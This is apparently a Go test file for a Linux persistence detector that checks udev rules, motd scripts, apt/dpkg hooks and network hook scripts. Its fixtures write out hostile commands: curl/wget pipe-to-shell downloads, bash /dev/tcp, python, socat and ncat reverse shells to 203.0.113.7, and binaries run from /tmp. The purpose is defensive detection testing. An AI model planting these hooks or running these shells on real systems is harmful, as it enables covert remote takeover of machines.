package hooks

import (
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// fixture materialises the clean root and its dpkg database (from
// testdata/owners.json), then lays the txtar files of extra over it.
func fixture(t testing.TB, extra string) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromString(t, string(clean))
	var owners map[string][]string
	b, err := os.ReadFile("testdata/owners.json")
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &owners); err != nil {
		t.Fatal(err)
	}
	names := make([]string, 0, len(owners))
	for n := range owners {
		names = append(names, n)
	}
	sort.Strings(names)
	var pkgs []dpkgfixture.Package
	for _, n := range names {
		pkgs = append(pkgs, dpkgfixture.Package{Name: n, Files: owners[n]})
	}
	dpkgfixture.Write(t, dir, pkgs...)
	if extra != "" {
		dpkgfixture.Overlay(t, dir, testutil.RootFromString(t, extra))
	}
	return dir
}

func TestCleanIsQuiet(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	for _, f := range r.Findings {
		t.Errorf("false positive: %s %s %s:%d %q %v", f.Severity, f.RuleID, f.Evidence.Path, f.Evidence.Line, f.Evidence.Text, f.Indicators)
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name    string
		extra   string
		rule    string
		subject string
		sev     model.Severity
		ind     string
	}{
		{"udev shell download", "-- etc/udev/rules.d/99-net.rules --\nACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -fsSL http://203.0.113.7/n | sh'\"\n", ruleUdevCommand, "RUN", model.Critical, "download-exec"},
		{"udev program in tmp", "-- etc/udev/rules.d/10-rand.rules --\nKERNEL==\"random\", RUN+=\"/var/tmp/.u/agent\"\n", ruleUdevCommand, "RUN", model.Critical, indWritable},
		{"udev reverse shell in PROGRAM", "-- lib/udev/rules.d/61-x.rules --\nKERNEL==\"sda\", PROGRAM=\"/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\\\"203.0.113.7\\\",443));os.dup2(s.fileno(),0);subprocess.call([\\\"/bin/sh\\\",\\\"-i\\\"])'\"\n", ruleUdevCommand, "PROGRAM", model.Critical, "reverse-shell.script"},
		{"udev import program hidden", "-- run/udev/rules.d/00-x.rules --\nSUBSYSTEM==\"block\", IMPORT{program}=\"/usr/lib/.cache/id %k\"\n", ruleUdevCommand, "IMPORT{program}", model.Critical, indHidden},
		{"udev continuation", "-- etc/udev/rules.d/98-y.rules --\nACTION==\"add\", \\\n  RUN+=\"/usr/bin/wget -q -O /dev/shm/y http://203.0.113.7/y\"\n", ruleUdevCommand, "RUN", model.High, indNetworkTool},
		{"udev unowned run", "-- etc/udev/rules.d/99-usb.rules --\nACTION==\"add\", SUBSYSTEM==\"block\", KERNEL==\"sd[b-z]1\", RUN+=\"/usr/local/bin/usb-mount.sh %k\"\n", ruleUdevUnowned, "RUN", model.Medium, indNotPackaged},
		{"udev packaged rule modified", "-- lib/udev/rules.d/85-hwclock.rules --\nKERNEL==\"rtc0\", RUN+=\"/usr/lib/udev/hwclock-set $root/$name\"\nKERNEL==\"rtc0\", RUN+=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'\"\n", ruleUdevCommand, "RUN", model.Critical, "reverse-shell.dev-tcp"},
		{"motd payload", "-- etc/update-motd.d/99-sysinfo mode=0755 --\n#!/bin/sh\nnohup /dev/shm/.k >/dev/null 2>&1 &\n", ruleMotdCommand, "99-sysinfo", model.High, "exec-writable-path"},
		{"motd unowned", "-- etc/update-motd.d/50-landscape-sysinfo mode=0755 --\n#!/bin/sh\n/usr/bin/landscape-sysinfo\n", ruleMotdUnowned, "50-landscape-sysinfo", model.Medium, indNotPackaged},
		{"motd packaged modified", "-- etc/update-motd.d/10-uname mode=0755 --\n#!/bin/sh\nuname -snrvm\ncurl -s http://203.0.113.7/m | sh\n", ruleMotdCommand, "10-uname", model.Critical, "download-exec"},
		{"apt pre-invoke backdoor", "-- etc/apt/apt.conf.d/42backdoor --\nAPT::Update::Pre-Invoke {\"nohup ncat -lvp 1234 -e /bin/bash 2> /dev/null &\"};\n", rulePkgHookCommand, "APT::Update::Pre-Invoke", model.Critical, "reverse-shell.nc"},
		{"apt scoped list", "-- etc/apt/apt.conf.d/99x.conf --\nDPkg\n{\n  Post-Invoke\n  {\n    \"/usr/bin/true\";\n    \"wget -qO- http://203.0.113.7/p | sh\";\n  };\n};\n", rulePkgHookCommand, "DPkg::Post-Invoke", model.Critical, "download-exec"},
		{"apt unowned hook", "-- etc/apt/apt.conf.d/80backup --\n// back up /etc after package changes\nDPkg::Post-Invoke { \"/usr/local/sbin/etc-backup || true\"; };\n", rulePkgHookUnowned, "DPkg::Post-Invoke", model.High, indNotPackaged},
		{"apt dir bin dpkg", "-- etc/apt/apt.conf.d/00dpkg --\nDir::Bin::dpkg \"/tmp/.d/dpkg\";\n", rulePkgHookCommand, "Dir::Bin::dpkg", model.Critical, indWritable},
		{"apt proxy auto detect", "-- etc/apt/apt.conf.d/30proxy --\nAcquire::http::Proxy-Auto-Detect \"/usr/local/bin/.pd\";\n-- usr/local/bin/.pd mode=0755 --\n#!/bin/sh\n", rulePkgHookCommand, "Proxy-Auto-Detect", model.Critical, indHidden},
		{"apt binary scope", "-- etc/apt/apt.conf --\nBinary::apt::APT::Update::Post-Invoke-Success { \"bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/8443 <&1'\"; };\n", rulePkgHookCommand, "Post-Invoke-Success", model.Critical, "reverse-shell.dev-tcp"},
		{"dpkg post-invoke", "-- etc/dpkg/dpkg.cfg.d/zz --\npost-invoke=/bin/sh -c 'curl -s http://203.0.113.7/d | sh'\n", rulePkgHookCommand, "post-invoke", model.Critical, "download-exec"},
		{"dpkg status-logger unowned", "-- etc/dpkg/dpkg.cfg.d/logger --\nstatus-logger \"/usr/local/bin/pkg-audit\"\n", rulePkgHookUnowned, "status-logger", model.High, indNotPackaged},
		{"if-up reverse shell", "-- etc/network/if-up.d/zz-net mode=0755 --\n#!/bin/sh\n[ \"$IFACE\" = lo ] && exit 0\nsocat exec:'bash -li',pty,stderr tcp:203.0.113.7:443 &\n", ruleNetCommand, "zz-net", model.Critical, "reverse-shell.socat"},
		{"NM dispatcher unowned", "-- etc/NetworkManager/dispatcher.d/90-route mode=0755 --\n#!/bin/sh\n[ \"$2\" = up ] && ip route add 10.9.0.0/16 via 10.0.0.1\n", ruleNetUnowned, "90-route", model.Medium, indNotPackaged},
		{"NM dispatcher subdir network tool", "-- etc/NetworkManager/dispatcher.d/pre-up.d/10-x mode=0755 --\n#!/bin/sh\ncurl -s -o /var/tmp/u http://203.0.113.7/u\n", ruleNetCommand, "10-x", model.High, indNetworkTool},
		{"dispatcher ELF", "-- etc/NetworkManager/dispatcher.d/05-bin mode=0755 --\n\x7fELF\x02\x01\x01\n", ruleNetUnowned, "05-bin", model.High, indCompiled},
		{"interfaces post-up", "-- etc/network/interfaces.d/eth1 --\niface eth1 inet dhcp\n\tpost-up /tmp/.x/n &\n", ruleNetCommand, "post-up", model.Critical, indWritable},
		{"dhclient hook sourced", "-- etc/dhcp/dhclient-exit-hooks.d/zz --\nbash -i >& /dev/tcp/203.0.113.7/53 0>&1 &\n", ruleNetCommand, "zz", model.Critical, "reverse-shell.dev-tcp"},
		{"ppp ip-up", "-- etc/ppp/ip-up.d/0x mode=0755 --\n#!/bin/sh\nwget -qO- http://203.0.113.7/p | sh\n", ruleNetCommand, "0x", model.Critical, "download-exec"},
	}
	cat := catalog.MustLoad()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			got := enginetest.Expect(t, r.Findings, []enginetest.Want{{Rule: tc.rule, Subject: tc.subject, Severity: tc.sev, Indicators: []string{tc.ind}}})[0]
			if got.RuleID == "" {
				return
			}
			if got.Evidence.Path == "" || got.Evidence.User != "root" || got.Evidence.When == "" {
				t.Errorf("incomplete evidence: %+v", got.Evidence)
			}
			for _, f := range r.Findings {
				for _, id := range f.Indicators {
					if cat.Indicator(id, catalog.Chinese) == id {
						t.Errorf("indicator %s has no text", id)
					}
				}
			}
		})
	}
}

func TestParseAptConf(t *testing.T) {
	src := `// comment
APT::Update::Post-Invoke { "a"; "b"; };
DPkg { Pre-Invoke { "c"; }; Tools::Options::/usr/bin/x::Version "2"; };
/* block
   comment */ Acquire::http::Proxy "http://p:3128/"; # trailing
#clear APT::Update::Post-Invoke;
#include "/etc/apt/other.conf";
APT::X:: "y";
`
	got := ParseAptConf([]byte(src))
	want := []AptItem{
		{Key: "APT::Update::Post-Invoke", Value: "a", Line: 2},
		{Key: "APT::Update::Post-Invoke", Value: "b", Line: 2},
		{Key: "DPkg::Pre-Invoke", Value: "c", Line: 3},
		{Key: "DPkg::Tools::Options::/usr/bin/x::Version", Value: "2", Line: 3},
		{Key: "Acquire::http::Proxy", Value: "http://p:3128/", Line: 5},
		{Key: "#include", Value: "/etc/apt/other.conf", Line: 7, Include: true},
		{Key: "APT::X", Value: "y", Line: 8},
	}
	if len(got) != len(want) {
		t.Fatalf("got %+v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("item %d = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestParseUdevRules(t *testing.T) {
	got := ParseUdevRules([]byte("# c\nKERNEL==\"sd*\", ENV{ID}=\"a,b\", RUN{program}+=\"/bin/x \\\"q\\\"\"\nbroken line\n"))
	if len(got) != 2 {
		t.Fatalf("rules = %+v", got)
	}
	p := got[0].Pairs
	if len(p) != 3 || p[1].Value != "a,b" || p[2].Key != "RUN" || p[2].Attr != "program" || p[2].Op != "+=" || p[2].Value != `/bin/x "q"` {
		t.Fatalf("pairs = %+v", p)
	}
}

func TestHostileFiles(t *testing.T) {
	dir := fixture(t, "-- etc/apt/apt.conf.d/99\xff --\nDPkg::Post-Invoke {\"x\";};\n-- etc/udev/rules.d/\xfe.rules --\nRUN+=\"/tmp/x\"\n")
	if err := syscall.Mkfifo(filepath.Join(dir, "etc/apt/apt.conf.d/98fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("loop.rules", filepath.Join(dir, "etc/udev/rules.d/loop.rules")); err != nil {
		t.Fatal(err)
	}
	big := strings.Repeat("# x\n", readLimit/4+10)
	if err := os.MkdirAll(filepath.Join(dir, "etc/network/interfaces.d"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "etc/network/interfaces.d/big"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), dir, false)
	if !r.Has(ruleUdevCommand, "") {
		t.Errorf("rules file with a non-UTF-8 name not read")
	}
	gapped := map[string]bool{}
	for _, g := range r.Gaps {
		gapped[g.Path] = true
	}
	for _, p := range []string{"/etc/apt/apt.conf.d/98fifo", "/etc/network/interfaces.d/big"} {
		if !gapped[p] {
			t.Errorf("no gap for %s: %+v", p, r.Gaps)
		}
	}
}

func FuzzParsers(f *testing.F) {
	f.Add("APT { Update { Post-Invoke { \"x\"; }; }; };\n#include \"/etc/x\";\n/* x")
	f.Add("KERNEL==\"x\", RUN+=\"/bin/sh -c 'a'\", PROGRAM{x}=e\"y\"\\\n")
	f.Add("post-invoke=/bin/x\n  up /sbin/ip link\n")
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(s)
		for _, it := range ParseAptConf(b) {
			aptKind(it.Key)
			cleanupOnly(it.Value)
		}
		for _, r := range ParseUdevRules(b) {
			udevCommands(r)
		}
		ParseDpkgCfg(b)
		ParseInterfaces(b)
	})
}

func BenchmarkHooks(b *testing.B) {
	dir := fixture(b, "")
	for b.Loop() {
		enginetest.Run(b, New(), dir, false)
	}
}

// Without a package database nothing is "not from a package": ownership is
// unknown, the pkgdb loader says so in a gap, and only commands that are
// suspicious on their own are reported.
func TestNoPackageDatabase(t *testing.T) {
	dir := testutil.RootFromTxtar(t, "testdata/clean.txtar")
	dpkgfixture.Overlay(t, dir, testutil.RootFromString(t, "-- etc/udev/rules.d/99-usb.rules --\nRUN+=\"/usr/local/bin/usb.sh\"\n-- etc/udev/rules.d/98-x.rules --\nRUN+=\"/tmp/x\"\n"))
	r := enginetest.Run(t, New(), dir, false)
	if len(r.Find(ruleUdevUnowned)) > 0 || len(r.Find(ruleUdevCommand)) != 1 {
		t.Errorf("findings without a package database: %s", enginetest.Dump(r.Findings))
	}
	found := false
	for _, g := range r.Gaps {
		found = found || g.Check == "pkgdb"
	}
	if !found {
		t.Errorf("no pkgdb gap: %+v", r.Gaps)
	}
}
